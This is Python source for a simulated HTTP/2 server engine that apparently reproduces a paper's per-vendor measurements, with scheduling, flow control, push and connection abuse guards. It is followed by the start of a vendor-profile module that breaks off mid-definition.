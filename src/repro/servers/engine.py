"""The HTTP/2 server engine.

One engine serves every vendor: it is a *real* HTTP/2 server — it
parses actual bytes with :mod:`repro.h2`, maintains stream state, obeys
(or deliberately bends) flow control, schedules DATA frames, pushes,
and compresses headers — while a :class:`~repro.servers.profiles.
ServerProfile` decides every behaviour the paper found to differ
between implementations.

Connection lifecycle::

    TCP accept -> TLS hello exchange (ALPN/NPN) -> h2 | http/1.1
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass

from repro.h2 import events as ev
from repro.h2.connection import ConnectionConfig, H2Connection, Side
from repro.h2.constants import ErrorCode, SettingCode
from repro.h2.errors import H2ConnectionError, H2Error, H2StreamError
from repro.net.clock import Simulation
from repro.net.tls import (
    H2,
    HTTP11,
    TlsServerConfig,
    decode_client_hello,
    encode_server_hello,
    negotiate_alpn,
)
from repro.h2.frames import PingFrame, RstStreamFrame, SettingsFrame
from repro.net.transport import Endpoint, Host
from repro.servers.profiles import ServerProfile, TinyWindowBehavior
from repro.servers.website import Resource, Website

#: Streams with less available window than this are "tiny" (§V-D1).
TINY_WINDOW_THRESHOLD = 16
#: Upper bound on a single DATA chunk, so that concurrent streams
#: interleave even when windows and MAX_FRAME_SIZE are huge.
CHUNK_LIMIT = 16_384
#: Seconds a guard-evicted connection lingers between its terminal
#: GOAWAY and the FIN, so the frame outruns the close on slow links.
GUARD_CLOSE_LINGER = 0.05


@dataclass
class GuardEvent:
    """One abuse-guard breach: which connection tripped which knob."""

    at: float
    connection: int
    reason: str


@dataclass
class _ResponseTask:
    """One response (or push) being delivered on a stream."""

    stream_id: int
    headers: list[tuple[str, str]]
    body: bytes
    offset: int = 0
    headers_sent: bool = False
    sent_empty_probe: bool = False
    credit: float = 0.0
    arrival_index: int = 0

    @property
    def remaining(self) -> int:
        return len(self.body) - self.offset

    @property
    def finished(self) -> bool:
        return self.headers_sent and self.remaining == 0


class H2Server:
    """A simulated origin server speaking HTTP/2 and HTTP/1.1."""

    def __init__(
        self,
        sim: Simulation,
        profile: ServerProfile,
        website: Website,
        seed: int = 0,
        record_frames: bool = False,
    ):
        self.sim = sim
        self.profile = profile
        self.website = website
        self.seed = seed
        self.tls = self._make_tls_config()
        self.connections: list[_ServerConnection] = []
        #: Learned push state (§VI point 4): for each page, how often
        #: each resource was requested right after it.
        self.follow_counts: dict[str, dict[str, int]] = {}
        #: When set, every connection records its inbound frames into a
        #: :class:`~repro.scope.trace.ConnectionTimeline` (detector and
        #: corpus input).  Off by default: recording is opt-in so the
        #: scan hot path never pays for it.
        self.record_frames = record_frames
        self.timelines: list = []
        #: Every abuse-guard breach, in firing order.
        self.guard_log: list[GuardEvent] = []

    def record_follow(self, page: str, follower: str) -> None:
        """Learn that ``follower`` was requested after ``page``."""
        counts = self.follow_counts.setdefault(page, {})
        counts[follower] = counts.get(follower, 0) + 1

    def learned_push_list(self, page: str) -> list[str]:
        """Most-requested followers of ``page``, most frequent first."""
        counts = self.follow_counts.get(page, {})
        ranked = sorted(counts, key=lambda path: (-counts[path], path))
        return ranked[: self.profile.learned_push_limit]

    def _make_tls_config(self) -> TlsServerConfig:
        protos = [H2, HTTP11] if self.profile.supports_h2 else [HTTP11]
        return TlsServerConfig(
            alpn_protocols=protos if self.profile.supports_alpn else None,
            npn_protocols=protos if self.profile.supports_npn else None,
        )

    def install(self, host: Host, port: int = 443, tls: bool = True) -> None:
        """Listen on ``port``; ``tls=False`` serves cleartext HTTP/1.1
        (with Upgrade: h2c if the profile supports it)."""
        if tls:
            host.listen(port, self._accept_tls)
        else:
            host.listen(port, self._accept_clear)

    def _accept_tls(self, endpoint: Endpoint) -> None:
        conn = _ServerConnection(self, endpoint, index=len(self.connections))
        self.connections.append(conn)

    def _accept_clear(self, endpoint: Endpoint) -> None:
        conn = _ServerConnection(
            self, endpoint, index=len(self.connections), tls=False
        )
        self.connections.append(conn)

    @property
    def pending_response_bytes(self) -> int:
        """Memory pinned by buffered responses across all connections."""
        return sum(conn.pending_response_bytes for conn in self.connections)

    @property
    def open_connections(self) -> int:
        """Connections still holding a transport endpoint open."""
        return sum(1 for conn in self.connections if not conn.endpoint.closed)

    @property
    def tracked_stream_states(self) -> int:
        """Stream-state objects alive across all h2 connections — what
        a reset-churn attacker inflates."""
        return sum(
            len(conn.conn.streams)
            for conn in self.connections
            if conn.conn is not None
        )

    @property
    def header_assembly_bytes(self) -> int:
        """Bytes pinned in open HEADERS→CONTINUATION assemblies — what
        the slow-HEADERS drip inflates."""
        total = 0
        for conn in self.connections:
            if conn.conn is None:
                continue
            assembly = conn.conn._header_assembly
            if assembly is not None:
                total += sum(len(f.header_block) for f in assembly[1])
        return total

    @property
    def hpack_table_bytes(self) -> int:
        """HPACK dynamic-table memory across all connections (both the
        encoder table, whose limit the *peer* influences, and the
        decoder table, bounded by our own SETTINGS_HEADER_TABLE_SIZE)."""
        total = 0
        for conn in self.connections:
            if conn.conn is not None:
                total += conn.conn.encoder.table.size
                total += conn.conn.decoder.table.size
        return total


class _ServerConnection:
    """State of one accepted connection."""

    def __init__(
        self,
        server: H2Server,
        endpoint: Endpoint,
        index: int = 0,
        tls: bool = True,
    ):
        self.server = server
        self.sim = server.sim
        self.profile = server.profile
        self.endpoint = endpoint
        self.mode = "hello" if tls else "http1"
        self._buffer = b""
        self.conn: H2Connection | None = None
        self._tasks: dict[int, _ResponseTask] = {}
        #: Streams whose request was accepted and whose response is not
        #: yet fully delivered — the MAX_CONCURRENT_STREAMS population.
        self._active_requests: set[int] = set()
        self._arrival_counter = 0
        self._rr_last_arrival = 0
        self._page_path: str | None = None
        self._rng = random.Random(hash((server.seed, index, 0x5EED)))
        self.index = index

        # -- abuse guards (ISSUE 7) ------------------------------------
        # Timers are armed ONLY for enabled knobs: an all-off guard
        # config must leave the simulation's event schedule untouched
        # (the determinism contract the pinned campaign hashes rely on).
        self.guards = server.profile.guards
        self._guard_reason: str | None = None
        self._opened_at = self.sim.now
        self._last_inbound = self.sim.now
        self._progress_at = self.sim.now
        self._h1_requests = 0
        self._assembly_started: float | None = None
        self._stall_check_armed = False
        self._rate_counts: dict[str, int] = {}
        self._rate_window_start: dict[str, float] = {}
        if self.guards.preface_timeout is not None:
            self.sim.call_later(self.guards.preface_timeout, self._check_preface)
        if self.guards.idle_timeout is not None:
            self.sim.call_later(self.guards.idle_timeout, self._check_idle)

        # -- frame-timeline recording ----------------------------------
        self.timeline = None
        if server.record_frames:
            from repro.scope.trace import ConnectionTimeline

            self.timeline = ConnectionTimeline(
                opened_at=self.sim.now,
                protocol="hello" if tls else "http1",
            )
            server.timelines.append(self.timeline)

        endpoint.on_data = self._on_data
        endpoint.on_close = self._on_close
        pending = endpoint.drain()
        if pending:
            self._on_data(pending)

    # ------------------------------------------------------------------
    # TLS hello
    # ------------------------------------------------------------------

    def _on_data(self, data: bytes) -> None:
        self._last_inbound = self.sim.now
        if self._guard_reason is not None:
            return
        if self.mode == "hello":
            self._buffer += data
            if b"\n" not in self._buffer:
                return
            line, _, rest = self._buffer.partition(b"\n")
            self._buffer = b""
            self._handle_hello(line + b"\n")
            if rest:
                self._on_data(rest)
        elif self.mode == "h2":
            self._feed_h2(data)
        elif self.mode == "http1":
            self._feed_http1(data)

    def _handle_hello(self, line: bytes) -> None:
        try:
            client_alpn, npn_offered = decode_client_hello(line)
        except ValueError:
            self.endpoint.close()
            return
        tls = self.server.tls
        alpn_choice = negotiate_alpn(client_alpn, tls) if client_alpn else None
        npn_list = tls.npn_protocols if npn_offered else None
        self.endpoint.send(encode_server_hello(alpn_choice, npn_list))

        # The client's NPN selection mirrors ours: it picks the first of
        # its preferences we advertise.  We anticipate the result so we
        # know which protocol engine to attach.
        chosen = alpn_choice
        if chosen is None and npn_list:
            for proto in client_alpn or [H2, HTTP11]:
                if proto in npn_list:
                    chosen = proto
                    break
        if chosen == H2 and self.profile.supports_h2:
            self._start_h2()
        else:
            self.mode = "http1"
            if self.timeline is not None:
                self.timeline.protocol = "http1"

    # ------------------------------------------------------------------
    # HTTP/2
    # ------------------------------------------------------------------

    def _start_h2(self) -> None:
        self.mode = "h2"
        profile = self.profile
        if self.timeline is not None:
            self.timeline.protocol = "h2"
        if profile.h2_unresponsive:
            # Negotiates h2 and then goes mute: no SETTINGS, no
            # responses.  §V-B's negotiation-vs-HEADERS gap.
            self.mode = "h2-mute"
            if self.timeline is not None:
                self.timeline.protocol = "h2-mute"
            return
        settings = dict(profile.settings)
        config = ConnectionConfig(
            side=Side.SERVER,
            strict=True,
            auto_settings_ack=True,
            auto_ping_ack=False,  # handled on the timed fast path below
            auto_window_update=True,
            on_zero_window_update_stream=profile.on_zero_window_update_stream,
            on_zero_window_update_connection=profile.on_zero_window_update_connection,
            on_window_overflow_stream=profile.on_window_overflow_stream,
            on_window_overflow_connection=profile.on_window_overflow_connection,
            on_self_dependency=profile.on_self_dependency,
            max_tracked_priority_streams=profile.max_tracked_priority_streams,
            zero_window_update_debug=profile.zero_window_update_debug,
            hpack_send_policy=profile.indexing_policy,
            hpack_huffman=profile.hpack_huffman,
            initial_settings=settings,
            max_peer_header_table_size=profile.max_peer_header_table_size,
        )
        self.conn = H2Connection(config)
        self.conn.initiate(send_settings=profile.send_settings_frame)
        if profile.announce_zero_then_window_update:
            # Nginx quirk (§V-C): announce INITIAL_WINDOW_SIZE 0, then
            # immediately re-open the connection window; per-stream
            # windows are granted as streams arrive.
            self.conn.send_window_update(0, profile.window_update_grant)
        self._flush()

    def _feed_h2(self, data: bytes) -> None:
        assert self.conn is not None
        mark = len(self.conn.frame_log)
        try:
            events = self.conn.receive_bytes(data)
        except H2StreamError as exc:
            self.conn.send_rst_stream(exc.stream_id, exc.error_code)
            self._flush()
            return
        except H2Error as exc:
            # Anything else protocol-fatal (including flow-control
            # violations surfacing from the receive path) tears the
            # connection down; a serving process must never crash.
            if not self.conn.terminated:
                self.conn.send_goaway(exc.error_code)
            self._flush()
            return
        finally:
            # Frames parsed before an error still count: recording and
            # guard accounting must see everything the peer sent.
            self._observe_frames(mark)
        if self._guard_reason is not None:
            return
        for event in events:
            self._handle_event(event)
        self._pump()
        self._flush()

    def _observe_frames(self, mark: int) -> None:
        """Timeline recording + guard accounting for newly parsed frames."""
        assert self.conn is not None
        arrived = self.conn.frame_log[mark:]
        if self.timeline is not None and arrived:
            from repro.scope.trace import TracedFrame

            now = self.sim.now
            self.timeline.frames.extend(
                TracedFrame(at=now, frame=frame) for frame in arrived
            )
        guards = self.guards
        if not guards.any_enabled:
            return
        for frame in arrived:
            if isinstance(frame, PingFrame) and not frame.is_ack:
                self._bump_rate("ping", guards.ping_rate_limit)
            elif isinstance(frame, SettingsFrame) and not frame.is_ack:
                self._bump_rate("settings", guards.settings_rate_limit)
            elif isinstance(frame, RstStreamFrame):
                self._bump_rate("rst", guards.rst_rate_limit)
        self._note_assembly()

    # -- abuse guards ------------------------------------------------------

    def _bump_rate(self, kind: str, limit: int | None) -> None:
        if limit is None or self._guard_reason is not None:
            return
        now = self.sim.now
        start = self._rate_window_start.get(kind)
        if start is None or now - start > self.guards.rate_window:
            self._rate_window_start[kind] = now
            self._rate_counts[kind] = 0
        self._rate_counts[kind] += 1
        if self._rate_counts[kind] > limit:
            self._trip_guard(f"{kind}-flood")

    def _note_assembly(self) -> None:
        """Track HEADERS→CONTINUATION assembly age for the drip guard."""
        if self.guards.header_timeout is None or self.conn is None:
            return
        if self.conn._header_assembly is None:
            self._assembly_started = None
        elif self._assembly_started is None:
            self._assembly_started = self.sim.now
            self.sim.call_later(
                self.guards.header_timeout, self._check_assembly, self.sim.now
            )

    def _check_assembly(self, started: float) -> None:
        if self.endpoint.closed or self._guard_reason is not None:
            return
        if (
            self.conn is not None
            and self.conn._header_assembly is not None
            and self._assembly_started == started
        ):
            self._trip_guard("header-timeout")

    def _check_preface(self) -> None:
        """Handshake deadline: a complete h2 preface (or an HTTP/1.1
        request) must have arrived by now."""
        if self.endpoint.closed or self._guard_reason is not None:
            return
        if self.mode == "hello":
            self._trip_guard("preface-timeout")
            return
        if self.mode == "h2":
            assert self.conn is not None
            if self.conn._preface_pending:
                self._trip_guard("preface-timeout")
            return
        if self.mode == "http1" and self._h1_requests == 0:
            self._trip_guard("preface-timeout")

    def _check_idle(self) -> None:
        if self.endpoint.closed or self._guard_reason is not None:
            return
        assert self.guards.idle_timeout is not None
        deadline = self._last_inbound + self.guards.idle_timeout
        if self.sim.now + 1e-9 >= deadline:
            self._trip_guard("idle-timeout")
        else:
            self.sim.call_later(deadline - self.sim.now, self._check_idle)

    def _arm_stall_check(self) -> None:
        if self.guards.stall_timeout is None or self._stall_check_armed:
            return
        self._stall_check_armed = True
        self.sim.call_later(self.guards.stall_timeout, self._check_stall)

    def _check_stall(self) -> None:
        self._stall_check_armed = False
        if self.endpoint.closed or self._guard_reason is not None:
            return
        if not self._tasks:
            return  # drained; re-armed by the next _enqueue
        assert self.guards.stall_timeout is not None
        deadline = self._progress_at + self.guards.stall_timeout
        if self.sim.now + 1e-9 >= deadline:
            self._trip_guard("stall-timeout")
        else:
            self._stall_check_armed = True
            self.sim.call_later(deadline - self.sim.now, self._check_stall)

    def _trip_guard(self, reason: str) -> None:
        """Evict the connection: one terminal GOAWAY(ENHANCE_YOUR_CALM),
        then close.  Idempotent — a guard fires at most once."""
        if self._guard_reason is not None or self.endpoint.closed:
            return
        self._guard_reason = reason
        self.server.guard_log.append(
            GuardEvent(at=self.sim.now, connection=self.index, reason=reason)
        )
        if self.conn is not None and not self.conn.terminated:
            self.conn.send_goaway(
                int(ErrorCode.ENHANCE_YOUR_CALM),
                debug_data=reason.encode("ascii"),
            )
            self._flush()
        self._tasks.clear()
        self._active_requests.clear()
        if self.timeline is not None:
            self.timeline.closed_at = self.sim.now
        # Linger before the FIN so the GOAWAY bytes (queued behind the
        # link's serialization delay) reach the peer; an immediate close
        # would overtake them and the client would only see a reset.
        self.sim.call_later(GUARD_CLOSE_LINGER, self.endpoint.close)

    def _handle_event(self, event: ev.Event) -> None:
        assert self.conn is not None
        if isinstance(event, ev.HeadersReceived):
            self._handle_request(event)
        elif isinstance(event, ev.PingReceived):
            self.sim.call_later(self.profile.ping_delay, self._ping_ack, event.payload)
        elif isinstance(event, ev.StreamReset):
            self._tasks.pop(event.stream_id, None)
            self._active_requests.discard(event.stream_id)
        elif isinstance(event, ev.SettingsReceived):
            self._enforce_window_lower_bound(event)
        elif isinstance(
            event, (ev.WindowUpdateReceived, ev.PriorityReceived)
        ):
            pass  # window or priority state changed; _pump() runs after events.
        elif isinstance(event, ev.GoAwayReceived):
            self._tasks.clear()

    def _enforce_window_lower_bound(self, event: ev.SettingsReceived) -> None:
        """The Discussion's proposed slow-read defence: refuse abusive
        SETTINGS_INITIAL_WINDOW_SIZE announcements outright."""
        bound = self.profile.min_accepted_initial_window
        if not bound or self.conn is None:
            return
        for identifier, value in event.settings:
            if identifier == int(SettingCode.INITIAL_WINDOW_SIZE) and value < bound:
                self.conn.send_goaway(
                    int(ErrorCode.ENHANCE_YOUR_CALM),
                    debug_data=b"initial window below server policy",
                )
                self._tasks.clear()
                self._active_requests.clear()
                return

    @property
    def pending_response_bytes(self) -> int:
        """Response bytes buffered awaiting flow-control window — the
        memory a slow-read attacker pins (§V-D1's DoS observation)."""
        return sum(task.remaining for task in self._tasks.values())

    def _ping_ack(self, payload: bytes) -> None:
        if self.conn is None or self.endpoint.closed:
            return
        self.conn.send_ping(payload, ack=True)
        self._flush()

    # -- request handling -------------------------------------------------

    def _handle_request(self, event: ev.HeadersReceived) -> None:
        assert self.conn is not None
        if self.conn.terminated:
            return
        profile = self.profile

        if profile.announce_zero_then_window_update:
            announced = profile.settings.get(int(SettingCode.INITIAL_WINDOW_SIZE))
            if announced == 0:
                self.conn.send_window_update(
                    event.stream_id, profile.window_update_grant
                )

        if profile.enforce_max_concurrent:
            limit = self.conn.local_settings.max_concurrent_streams
            if limit is not None and len(self._active_requests) + 1 > limit:
                self.conn.send_rst_stream(
                    event.stream_id, int(ErrorCode.REFUSED_STREAM)
                )
                return
        self._active_requests.add(event.stream_id)

        headers = {name: value for name, value in event.headers}
        path = headers.get(b":path", b"/").decode("latin-1")

        # Learned-push bookkeeping (§VI point 4): the connection's first
        # request is "the page"; later requests are its followers.
        if getattr(self, "_page_path", None) is None:
            self._page_path = path
        else:
            self.server.record_follow(self._page_path, path)

        resource = self.server.website.get(path)
        delay = max(
            0.0005,
            self._rng.gauss(profile.processing_delay, profile.processing_jitter),
        )
        self.sim.call_later(delay, self._respond, event.stream_id, resource, path)

    def _respond(
        self, stream_id: int, resource: Resource | None, path: str = "/"
    ) -> None:
        conn = self.conn
        if conn is None or self.endpoint.closed or conn.terminated:
            return
        stream = conn.streams.get(stream_id)
        if stream is None or stream.closed:
            return
        profile = self.profile

        if resource is None:
            self._enqueue(stream_id, self._response_headers("404", None), b"")
        else:
            if profile.supports_push and conn.remote_settings.enable_push:
                push_list = self._push_list(resource, path)
                if push_list:
                    self._push_resources(stream_id, push_list)
            self._enqueue(
                stream_id,
                self._response_headers("200", resource),
                resource.body(),
            )
        self._pump()
        self._flush()

    def _push_list(self, resource: Resource, path: str) -> list[str]:
        """Resolve the push manifest for one response per push policy."""
        if self.profile.push_policy == "learned":
            return self.server.learned_push_list(path)
        return list(resource.push)

    def _push_resources(
        self, parent_stream_id: int, push_paths: list[str]
    ) -> None:
        assert self.conn is not None
        for push_path in push_paths:
            pushed = self.server.website.get(push_path)
            if pushed is None:
                continue
            request_headers = [
                (":method", "GET"),
                (":scheme", "https"),
                (":path", push_path),
                (":authority", "localhost"),
            ]
            try:
                promised_id = self.conn.send_push_promise(
                    parent_stream_id, request_headers
                )
            except H2ConnectionError:
                return
            # RFC 7540 §5.3.5: a pushed stream initially depends on its
            # associated stream — so the page itself is never starved by
            # its own pushes under a priority-respecting scheduler.
            if promised_id not in self.conn.priority_tree:
                self.conn.priority_tree.insert(
                    promised_id, depends_on=parent_stream_id
                )
            self._enqueue(
                promised_id, self._response_headers("200", pushed), pushed.body()
            )

    def _response_headers(
        self, status: str, resource: Resource | None
    ) -> list[tuple[str, str]]:
        headers = [
            (":status", status),
            ("server", self.profile.server_header),
            ("date", "Mon, 04 Jul 2016 12:00:00 GMT"),
        ]
        if resource is not None:
            headers.append(("content-type", resource.content_type))
            headers.append(("content-length", str(resource.size)))
            headers.append(("cache-control", "max-age=3600"))
            headers.extend(resource.extra_headers)
        else:
            headers.append(("content-length", "0"))
        if self.profile.new_cookie_each_response:
            # §V-G: these sites insert fresh cookies into the 2nd..Hth
            # responses, making S_1 < S_i and the Eq. 1 ratio exceed 1.
            self._cookie_counter = getattr(self, "_cookie_counter", 0) + 1
            if self._cookie_counter >= 2:
                token = "".join(
                    f"{self._rng.getrandbits(64):016x}" for _ in range(10)
                )
                headers.append(
                    (
                        "set-cookie",
                        f"visit={self._cookie_counter:08d}; sid={token}; Path=/",
                    )
                )
        if (
            self.profile.response_header_noise
            and self._rng.random() < self.profile.response_header_noise
        ):
            # A unique, unindexable value (request ids, trace tokens):
            # keeps repeated header blocks from collapsing to indices.
            headers.append(("x-request-id", f"{self._rng.getrandbits(96):024x}"))
        return headers

    def _enqueue(
        self, stream_id: int, headers: list[tuple[str, str]], body: bytes
    ) -> None:
        # FCFS order is *request* order (stream ids are monotonic per
        # RFC 7540 §5.1.1), not response-generation order: a FCFS server
        # drains its accept queue in the order requests arrived, which
        # is what makes it deterministically fail Algorithm 1 rather
        # than passing by a lucky permutation.
        self._arrival_counter += 1
        self._tasks[stream_id] = _ResponseTask(
            stream_id=stream_id,
            headers=headers,
            body=body,
            arrival_index=stream_id,
        )
        self._progress_at = self.sim.now
        self._arm_stall_check()

    # ------------------------------------------------------------------
    # The send scheduler
    # ------------------------------------------------------------------

    def _pump(self) -> None:
        """Send whatever flow control and the scheduler allow right now."""
        conn = self.conn
        if conn is None or self.endpoint.closed:
            return
        profile = self.profile

        progress = True
        while progress:
            progress = False
            progress |= self._send_ready_headers()

            ready = self._data_ready_streams()
            if not ready:
                break
            sid = self._schedule(ready)
            if sid is None:
                break
            if self._send_chunk(self._tasks[sid]):
                progress = True

        for sid in [s for s, t in self._tasks.items() if t.finished]:
            del self._tasks[sid]
            self._active_requests.discard(sid)

    def _send_ready_headers(self) -> bool:
        conn = self.conn
        assert conn is not None
        profile = self.profile
        sent_any = False
        for task in sorted(self._tasks.values(), key=lambda t: t.arrival_index):
            if task.headers_sent:
                continue
            stream = conn.streams.get(task.stream_id)
            if stream is None or stream.closed:
                continue
            if profile.flow_control_on_headers and task.body:
                # Misapplied flow control: HEADERS wait for windows the
                # RFC says do not govern them.  The threshold separates
                # the common zero-window variant from LiteSpeed's
                # stricter one (§V-D1 vs §V-D2).
                needed = min(profile.headers_hold_threshold, len(task.body))
                if (
                    stream.outbound_window.available < needed
                    or conn.outbound_window.available <= 0
                ):
                    continue
            conn.send_headers(
                task.stream_id,
                task.headers,
                end_stream=not task.body,
            )
            task.headers_sent = True
            sent_any = True
        if sent_any:
            self._progress_at = self.sim.now
        return sent_any

    def _data_ready_streams(self) -> set[int]:
        conn = self.conn
        assert conn is not None
        ready = set()
        for sid, task in self._tasks.items():
            if not task.headers_sent or task.remaining == 0:
                continue
            stream = conn.streams.get(sid)
            if stream is None or not stream.can_send:
                continue
            ready.add(sid)
        return ready

    def _schedule(self, ready: set[int]) -> int | None:
        """Pick the next stream to send a DATA chunk on.

        Priority servers run weighted fair sharing over the dependency
        tree (ready ancestors shadow descendants).  Servers that ignore
        priority round-robin over the ready streams in arrival order —
        they still *multiplex* (Table III says all six do) but pay no
        attention to the dependency tree, which is exactly what makes
        them fail Algorithm 1.  Either way a stream without usable
        window is skipped — the disturbance Algorithm 1's context
        preparation must defeat.
        """
        conn = self.conn
        assert conn is not None
        if conn.outbound_window.available <= 0:
            return None

        mode = self.profile.scheduler_mode
        if mode == "wfq":
            # A soft-WFQ server flushes each response's *first* chunk in
            # arrival order (the write buffered when the response was
            # generated) before weighted sharing takes over.  This is
            # what makes such sites satisfy §V-E1's rules by last DATA
            # frame while failing them by first DATA frame.
            unstarted = sorted(
                (sid for sid in ready if self._tasks[sid].offset == 0),
                key=lambda sid: self._tasks[sid].arrival_index,
            )
            for sid in unstarted:
                if self._sendable(sid):
                    return sid
        if mode in ("strict", "wfq"):
            shares = conn.priority_tree.allocation(
                ready, shadowing=(mode == "strict")
            )
            for sid in ready:
                self._tasks[sid].credit += shares.get(sid, 0.0)
            candidates = sorted(
                ready,
                key=lambda sid: (-self._tasks[sid].credit, sid),
            )
        else:
            by_arrival = sorted(
                ready, key=lambda sid: self._tasks[sid].arrival_index
            )
            after = [
                sid
                for sid in by_arrival
                if self._tasks[sid].arrival_index > self._rr_last_arrival
            ]
            before = [sid for sid in by_arrival if sid not in after]
            candidates = after + before

        for sid in candidates:
            if self._sendable(sid):
                if mode == "fcfs":
                    self._rr_last_arrival = self._tasks[sid].arrival_index
                return sid
        return None

    def _sendable(self, sid: int) -> bool:
        conn = self.conn
        assert conn is not None
        stream = conn.streams.get(sid)
        if stream is None:
            return False
        available = stream.outbound_window.available
        if available <= 0:
            return self.profile.tiny_window_behavior is TinyWindowBehavior.SEND_EMPTY
        if (
            available < TINY_WINDOW_THRESHOLD
            and self.profile.tiny_window_behavior is TinyWindowBehavior.SILENT
        ):
            return False
        return True

    def _send_chunk(self, task: _ResponseTask) -> bool:
        conn = self.conn
        assert conn is not None
        stream = conn.streams.get(task.stream_id)
        if stream is None:
            return False

        stream_avail = stream.outbound_window.available
        conn_avail = conn.outbound_window.available
        behavior = self.profile.tiny_window_behavior

        if stream_avail <= 0 or conn_avail <= 0:
            if behavior is TinyWindowBehavior.SEND_EMPTY and not task.sent_empty_probe:
                conn.send_data(task.stream_id, b"", end_stream=False)
                task.sent_empty_probe = True
                if self.profile.scheduler_mode != "fcfs":
                    task.credit -= 1.0
                return False
            return False

        chunk_len = min(
            task.remaining,
            stream_avail,
            conn_avail,
            conn.remote_settings.max_frame_size,
            CHUNK_LIMIT,
        )
        if (
            chunk_len < min(TINY_WINDOW_THRESHOLD, task.remaining)
            and behavior is TinyWindowBehavior.SEND_EMPTY
            and not task.sent_empty_probe
        ):
            conn.send_data(task.stream_id, b"", end_stream=False)
            task.sent_empty_probe = True
            return False

        chunk = task.body[task.offset : task.offset + chunk_len]
        end = task.offset + chunk_len >= len(task.body)
        conn.send_data(task.stream_id, chunk, end_stream=end)
        task.offset += chunk_len
        self._progress_at = self.sim.now
        if self.profile.scheduler_mode != "fcfs":
            task.credit -= 1.0
        # One transport write per DATA frame: the wire then carries the
        # scheduler's interleaving with per-chunk timing, instead of one
        # indivisible burst.
        self._flush()
        return True

    # ------------------------------------------------------------------
    # HTTP/1.1
    # ------------------------------------------------------------------

    def _feed_http1(self, data: bytes) -> None:
        self._buffer += data
        while b"\r\n\r\n" in self._buffer:
            raw, _, self._buffer = self._buffer.partition(b"\r\n\r\n")
            self._handle_http1_request(raw)

    def _handle_http1_request(self, raw: bytes) -> None:
        lines = raw.split(b"\r\n")
        if not lines or not lines[0]:
            return
        self._h1_requests += 1
        parts = lines[0].split()
        path = parts[1].decode("latin-1") if len(parts) >= 2 else "/"
        headers = {}
        for line in lines[1:]:
            name, _, value = line.partition(b":")
            headers[name.strip().lower()] = value.strip()

        upgrade_tokens = {
            token.strip().lower()
            for token in headers.get(b"upgrade", b"").split(b",")
        }
        if b"h2c" in upgrade_tokens and self.profile.supports_h2c:
            self._upgrade_to_h2c(path, headers.get(b"http2-settings", b""))
            return

        resource = self.server.website.get(path)
        delay = max(
            0.0005,
            self._rng.gauss(
                self.profile.processing_delay, self.profile.processing_jitter
            ),
        )
        self.sim.call_later(delay, self._respond_http1, resource)

    def _upgrade_to_h2c(self, path: str, settings_token: bytes) -> None:
        """RFC 7540 §3.2: 101 Switching Protocols, then HTTP/2 frames.

        The upgrading request becomes stream 1 (half-closed remote) and
        the response to it is sent as HTTP/2.
        """
        self.endpoint.send(
            b"HTTP/1.1 101 Switching Protocols\r\n"
            b"Connection: Upgrade\r\n"
            b"Upgrade: h2c\r\n\r\n"
        )
        self._start_h2()
        assert self.conn is not None
        # Apply the client's HTTP2-Settings header (a base64url-encoded
        # SETTINGS payload) as its initial settings.
        if settings_token:
            try:
                padded = settings_token + b"=" * (-len(settings_token) % 4)
                payload = base64.urlsafe_b64decode(padded)
                for offset in range(0, len(payload) - len(payload) % 6, 6):
                    identifier = int.from_bytes(payload[offset : offset + 2], "big")
                    value = int.from_bytes(payload[offset + 2 : offset + 6], "big")
                    self.conn._apply_remote_setting(identifier, value)
            except (ValueError, H2ConnectionError):
                pass
        self.conn.upgrade_stream()
        resource = self.server.website.get(path)
        delay = max(
            0.0005,
            self._rng.gauss(
                self.profile.processing_delay, self.profile.processing_jitter
            ),
        )
        self.sim.call_later(delay, self._respond, 1, resource, path)
        self._flush()

    def _respond_http1(self, resource: Resource | None) -> None:
        if self.endpoint.closed:
            return
        if resource is None:
            status, body = "404 Not Found", b""
        else:
            status, body = "200 OK", resource.body()
        head = (
            f"HTTP/1.1 {status}\r\n"
            f"Server: {self.profile.server_header}\r\n"
            f"Content-Length: {len(body)}\r\n"
            "Connection: keep-alive\r\n\r\n"
        ).encode()
        self.endpoint.send(head + body)

    # ------------------------------------------------------------------
    # Utilities
    # ------------------------------------------------------------------

    def _flush(self) -> None:
        if self.conn is None or self.endpoint.closed:
            return
        data = self.conn.data_to_send()
        if data:
            self.endpoint.send(data)

    def _on_close(self) -> None:
        self._tasks.clear()
        if self.timeline is not None and self.timeline.closed_at is None:
            self.timeline.closed_at = self.sim.now
