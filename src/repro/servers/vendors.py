"""The six server implementations of Table III, as behaviour profiles.

Each factory transcribes one column of Table III plus the Section V-A
observations (window quirks, concurrency enforcement, HPACK indexing).
Population-only server families seen in Table IV (GSE, cloudflare-nginx,
IdeaWebServer) are modelled here too so the Alexa-scale experiments can
mix them in.
"""

from __future__ import annotations

from repro.h2.connection import Reaction
from repro.h2.constants import SettingCode
from repro.servers.profiles import AbuseGuards, ServerProfile, TinyWindowBehavior

MCS = int(SettingCode.MAX_CONCURRENT_STREAMS)
IWS = int(SettingCode.INITIAL_WINDOW_SIZE)
MFS = int(SettingCode.MAX_FRAME_SIZE)
MHLS = int(SettingCode.MAX_HEADER_LIST_SIZE)
HTS = int(SettingCode.HEADER_TABLE_SIZE)


def nginx() -> ServerProfile:
    """Nginx v1.9.15 (Table III column 1)."""
    return ServerProfile(
        name="nginx",
        server_header="nginx/1.9.15",
        supports_alpn=True,
        supports_npn=True,
        # §V-C: Nginx announces INITIAL_WINDOW_SIZE 0 and immediately
        # re-opens windows with WINDOW_UPDATE frames.
        settings={MCS: 128, IWS: 0, MFS: 16_384},
        announce_zero_then_window_update=True,
        flow_control_on_headers=False,
        on_zero_window_update_stream=Reaction.IGNORE,
        on_zero_window_update_connection=Reaction.IGNORE,
        on_window_overflow_stream=Reaction.RST_STREAM,
        on_window_overflow_connection=Reaction.GOAWAY,
        scheduler_mode="fcfs",
        on_self_dependency=Reaction.RST_STREAM,
        supports_push=False,
        # §V-G: Nginx only indexes request headers; responses never
        # shrink, so its compression ratio is ~1.
        hpack_index_responses=False,
        enforce_max_concurrent=True,
    )


def litespeed() -> ServerProfile:
    """LiteSpeed v5.0.11 (Table III column 2)."""
    return ServerProfile(
        name="litespeed",
        server_header="LiteSpeed",
        supports_alpn=True,
        supports_npn=True,
        settings={MCS: 100, IWS: 65_536, MFS: 16_384, MHLS: 16_384},
        # Table III: LiteSpeed applies flow control to HEADERS frames;
        # §V-D1: with a 1-octet window it sends no response at all.
        flow_control_on_headers=True,
        headers_hold_threshold=16,
